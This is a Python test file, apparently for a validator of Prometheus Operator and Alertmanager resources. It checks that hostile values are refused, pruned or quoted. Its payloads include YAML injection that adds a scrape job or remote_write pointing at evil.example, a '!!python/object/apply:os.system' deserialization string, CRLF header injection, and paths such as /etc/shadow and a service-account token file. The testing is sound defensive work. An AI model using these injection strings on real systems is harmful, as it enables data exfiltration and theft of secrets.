"""Texts that would be structure if somebody pasted them: YAML, matchers, expressions, paths.

All of them are strings and stay strings: the object is used, or refused for what its field may
hold. Nothing of it may end its line, open a mapping, or be read as another type.
"""

from typing import Any, Final

from stoker.validate.findings import Reason
from tests.hostile.payload import (
    INVALID,
    PRUNED,
    REFUSED,
    RELABELING,
    Attack,
    LeftOut,
    Refused,
    key,
)
from tests.hostile.tricky import TRICKY

ATTACK: Final = Attack("structure")

JOB: Final = "x\n- job_name: stolen\n  static_configs: [{targets: [evil.example]}]\n"
YAML: Final = (
    "}\n- job_name: stolen",
    "x'\nscrape_configs: []\n#",
    'x"\nremote_write: [{url: http://evil.example}]\n"',
    JOB,
    "---\nscrape_configs: []\n",
    "...\n",
    "%YAML 1.1\n---\n",
    "&anchor x",
    "*anchor",
    "<<",
    "<<: *anchor",
    "!!binary eA==",
    "!!python/object/apply:os.system [id]",
    "!!str x",
    "!<tag:example.com,2026:x> y",
    "? complex\n: key",
    "| \n literal",
    ">-\n folded",
    "- a\n- b",
    "{a: b, c: [d]}",
    "a: b # c",
    "# only a comment",
    "'single",
    '"double',
    '\\"escaped\\',
    "yes",
    "NULL",
    "0x1F",
    "1_000",
    "2026-01-31T12:00:00Z",
    "1:20:30",
    ".inf",
    " leading and trailing ",
    "\tTab\tfirst",
    "a\n\n\n  b\n",
    "ends with newlines\n\n",
)
WORST: Final = (JOB, 'x"\n- name: stolen\n  a: {b: [c', "*a: &b !!c 'd")

# --- Every YAML text, once in each of the three kinds of file -------------------------------------

ATTACK.at("ScrapeConfig", "spec.params[x]", *([text] for text in YAML))
ATTACK.at("PrometheusRule", "spec.groups[0].rules[0].annotations[summary]", *YAML)
ATTACK.at("AlertmanagerConfig", "spec.route.groupBy[0]", *YAML)

# --- The worst of them wherever a monitor takes a text --------------------------------------------

for _kind, _place in (
    ("ServiceMonitor", "spec.endpoints[0].path"),
    ("ServiceMonitor", "spec.endpoints[0].relabelings[0].replacement"),
    ("ServiceMonitor", "spec.endpoints[0].metricRelabelings[0].separator"),
    ("ServiceMonitor", "spec.endpoints[0].tlsConfig.serverName"),
    ("ServiceMonitor", "spec.endpoints[0].tlsConfig.caFile"),
    ("ServiceMonitor", "spec.endpoints[0].bearerTokenFile"),
    ("ServiceMonitor", "spec.namespaceSelector.matchNames[0]"),
    ("PodMonitor", "spec.podMetricsEndpoints[0].path"),
    ("PodMonitor", "spec.podMetricsEndpoints[0].params[q][0]"),
    ("Probe", "spec.module"),
    ("Probe", "spec.jobName"),
    ("Probe", "spec.prober.path"),
    ("Probe", "spec.targets.staticConfig.labels[team]"),
    ("ScrapeConfig", "spec.metricsPath"),
    ("ScrapeConfig", "spec.jobName"),
    ("ScrapeConfig", "spec.staticConfigs[0].labels[team]"),
):
    ATTACK.at(
        _kind,
        _place,
        *WORST,
        beside={"targetLabel": "x"} if "elabelings[" in _place else None,
    )
# These become regular expressions or names of ports: what they hold is quoted.
ATTACK.at("ServiceMonitor", "spec.endpoints[0].port", *WORST, ".*", "a|b", "web$")
ATTACK.at("PodMonitor", "spec.podMetricsEndpoints[0].port", *WORST[:1])
ATTACK.at("ServiceMonitor", "spec.jobLabel", *WORST, "a-b.c/d", "$1")
ATTACK.at("ServiceMonitor", "spec.targetLabels[0]", *WORST, "a-b.c/d", "${1}")
ATTACK.at("PodMonitor", "spec.podTargetLabels[0]", *WORST)
ATTACK.at("ServiceMonitor", "spec.targetLabels[0]", "", then=INVALID)

# --- Selectors are labels of Kubernetes, and nothing else -----------------------------------------

_SELECTOR: Final = LeftOut(Reason.INVALID_SELECTOR)
ATTACK.at(
    "ServiceMonitor",
    "spec.selector.matchLabels[app]",
    "a|b",
    ".*",
    "a\nb",
    "x" * 64,
    "é",
    "a,b=c",
    then=_SELECTOR,
)
for _name in ("a b", "a=b", "../x", "x" * 400, "é/a", ""):
    ATTACK.at(
        "PodMonitor",
        "spec.selector.matchLabels",
        {_name: "x"},
        then=LeftOut(Reason.INVALID_SELECTOR, f"spec.selector.matchLabels[{_name}]"),
    )
_EXPRESSION: Final = "spec.selector.matchExpressions[0]"
ATTACK.at(
    "ServiceMonitor",
    _EXPRESSION,
    {"key": "a", "operator": "Matches", "values": [".*"]},
    then=LeftOut(Reason.INVALID_SELECTOR, _EXPRESSION),
)
ATTACK.at(
    "ServiceMonitor",
    _EXPRESSION,
    {"key": "a", "operator": "In", "values": []},
    then=LeftOut(Reason.INVALID_SELECTOR, _EXPRESSION),
)
ATTACK.at(
    "ServiceMonitor",
    _EXPRESSION,
    {"key": "a", "operator": "In", "values": ["b|.*"]},
    then=LeftOut(Reason.INVALID_SELECTOR, _EXPRESSION),
)

# --- Relabelings: actions and names ---------------------------------------------------------------

_STEP: Final = "spec.endpoints[0].relabelings[0]"
ATTACK.at("ServiceMonitor", f"{_STEP}.action", "eval", "labelmap\n", "", then=REFUSED)
ATTACK.at("ServiceMonitor", f"{_STEP}.targetLabel", *WORST, "__address__", "${1}x", "$(SHARD)")
ATTACK.at("ServiceMonitor", _STEP, {}, then=LeftOut(RELABELING.reason, f"{_STEP}.targetLabel"))
ATTACK.at(
    "ServiceMonitor",
    f"{_STEP}.replacement",
    "",
    beside={"action": "labelmap", "regex": "a"},
    then=RELABELING,
)
ATTACK.at(
    "ServiceMonitor", f"{_STEP}.sourceLabels[0]", "", beside={"targetLabel": "a"}, then=RELABELING
)
ATTACK.at(
    "ServiceMonitor",
    f"{_STEP}.modulus",
    0,
    beside={"action": "hashmod", "targetLabel": "a"},
    then=RELABELING,
)
ATTACK.at("ServiceMonitor", f"{_STEP}.modulus", -1, 1.5, "4", then=REFUSED)
ATTACK.at(
    "ServiceMonitor",
    f"{_STEP}.modulus",
    2**64 - 1,
    2**63,
    beside={"action": "hashmod", "targetLabel": "a"},
    then=REFUSED,
)

# --- Query parameters, headers, mappings whose names are the tenant's -----------------------------

for _name in (JOB, "*a", "<<", "yes", "", "a: b", "\u2028", "x" * 3000):
    ATTACK.at("ScrapeConfig", "spec.params", {_name: ["x"]})
for _name in ("X-A\nX-B", "a: b", "é", "", "a b", "(x)"):
    ATTACK.at(
        "ScrapeConfig",
        "spec.httpHeaders",
        {_name: {"values": ["x"]}},
        then=LeftOut(path=f"spec.httpHeaders[{_name}]"),
    )
for _name in ("Authorization", "hOsT", "Content-Length", "X-Prometheus-Scrape-Timeout-Seconds"):
    ATTACK.at(
        "ScrapeConfig",
        "spec.httpHeaders",
        {_name: {"values": ["x"]}},
        then=LeftOut(path=f"spec.httpHeaders[{_name}]"),
    )
ATTACK.at("ScrapeConfig", "spec.httpHeaders[X-A]", {"values": [JOB]}, {"values": ["a\r\nb: c"]})
ATTACK.at(
    "ScrapeConfig",
    "spec.proxyConnectHeader",
    {"X\r\nY: z": [key("token")]},
    beside={"proxyUrl": "http://proxy.example"},
)

# --- Matchers of Alertmanager ---------------------------------------------------------------------

_MATCHERS: Final = "spec.route.matchers[0]"
for _text in TRICKY:
    ATTACK.at("AlertmanagerConfig", _MATCHERS, {"name": _text, "matchType": "!=", "value": _text})
ATTACK.at(
    "AlertmanagerConfig",
    f"{_MATCHERS}.matchType",
    '=~".*",namespace!=',
    "==",
    "=~\n",
    beside={"name": "a", "value": "b"},
    then=REFUSED,
)
ATTACK.at("AlertmanagerConfig", f"{_MATCHERS}.name", "", beside={"value": "b"}, then=REFUSED)

# --- Nested routes are plain JSON, which no schema has seen ---------------------------------------

_NESTED: Final = "spec.route.routes[0]"
for _field in ("match", "match_re", "labels", "continu", "group_by", "receiver\n", "mute"):
    ATTACK.at(
        "AlertmanagerConfig",
        _NESTED,
        {_field: {"namespace": "alice"}},
        then=LeftOut(path=f"{_NESTED}.{_field}"),
    )
for _value, _path in (
    ("namespace=~.*", _NESTED),
    (["x"], _NESTED),
    (5, _NESTED),
    ({"matchers": ["namespace=~.*"]}, f"{_NESTED}.matchers[0]"),
    ({"matchers": {"a": "b"}}, f"{_NESTED}.matchers"),
    ({"receiver": ["mine"]}, f"{_NESTED}.receiver"),
    ({"receiver": "alice/shop/phone"}, f"{_NESTED}.receiver"),
    ({"routes": "x"}, f"{_NESTED}.routes"),
    ({"continue": "yes"}, f"{_NESTED}.continue"),
    (
        {"matchers": [{"name": "a", "matchType": "==", "value": "b"}]},
        f"{_NESTED}.matchers[0].matchType",
    ),
    ({"matchers": [{"name": "a", "values": "b"}]}, f"{_NESTED}.matchers[0].values"),
    ({"muteTimeIntervals": ["alice/shop/nights"]}, f"{_NESTED}.muteTimeIntervals[0]"),
):
    ATTACK.at("AlertmanagerConfig", _NESTED, _value, then=LeftOut(path=_path))
ATTACK.at("AlertmanagerConfig", _NESTED, None, then=LeftOut())
ATTACK.at(
    "AlertmanagerConfig",
    _NESTED,
    {"matchers": [{"name": "", "value": "b"}]},
    then=LeftOut(Reason.REQUIRED, f"{_NESTED}.matchers[0].name"),
)

# --- Fields that there are not --------------------------------------------------------------------

UNKNOWN: Final[tuple[tuple[str, str, Any], ...]] = (
    ("ServiceMonitor", "spec.endpoints[0].scrape_configs", [{}]),
    ("ServiceMonitor", "spec.additionalScrapeConfigs", {"name": "vault", "key": "lines"}),
    ("PodMonitor", "spec.podMetricsEndpoints[0].bearerTokenFile", "/var/run/secrets/token"),
    ("PodMonitor", "spec.podMetricsEndpoints[0].tlsConfig", {"caFile": "/etc/passwd"}),
    ("Probe", "spec.prober.relabelings", [{}]),
    ("Probe", "spec.tlsConfig", {"keyFile": "/etc/shadow"}),
    ("ScrapeConfig", "spec.fileSDConfigs[0]", {"files": ["/etc/x.json"], "paths": ["/"]}),
    ("PrometheusRule", "spec.groups[0].rules[0].source_tenants", ["alice"]),
    ("PrometheusRule", "spec.groups[0].evil", {"a": "b"}),
    ("AlertmanagerConfig", "spec.global", {"smtp_smarthost": "evil.example:25"}),
    ("AlertmanagerConfig", "spec.templates", ["/etc/*.tmpl"]),
    ("AlertmanagerConfig", "spec.route.match", {"namespace": "alice"}),
)
for _kind, _place, _given in UNKNOWN:
    ATTACK.at(_kind, _place, _given, then=PRUNED)

# --- Other types than the schema has --------------------------------------------------------------

MISTYPED: Final[tuple[tuple[str, str, Any], ...]] = (
    ("ServiceMonitor", "spec.endpoints", {"port": "web"}),
    ("ServiceMonitor", "spec.endpoints[0].path", ["/"]),
    ("ServiceMonitor", "spec.endpoints[0].honorLabels", "true"),
    ("PodMonitor", "spec.selector", "app=shop"),
    ("Probe", "spec.targets", []),
    ("ScrapeConfig", "spec.staticConfigs[0].targets", "a:80"),
    ("ScrapeConfig", "spec.params", {"a": "b"}),
    ("PrometheusRule", "spec.groups", {"name": "g"}),
    ("PrometheusRule", "spec.groups[0].rules[0].labels", {"severity": 5}),
    ("PrometheusRule", "spec.groups[0].rules[0].expr", {"a": "b"}),
    ("AlertmanagerConfig", "spec.route", []),
    ("AlertmanagerConfig", "spec.receivers[0].name", 5),
)
for _kind, _place, _given in MISTYPED:
    # Of a mapping, the member is named.
    _inside = f".{next(iter(_given))}" if _place.endswith(("params", "labels")) else ""
    ATTACK.at(_kind, _place, _given, then=Refused(_place + _inside))
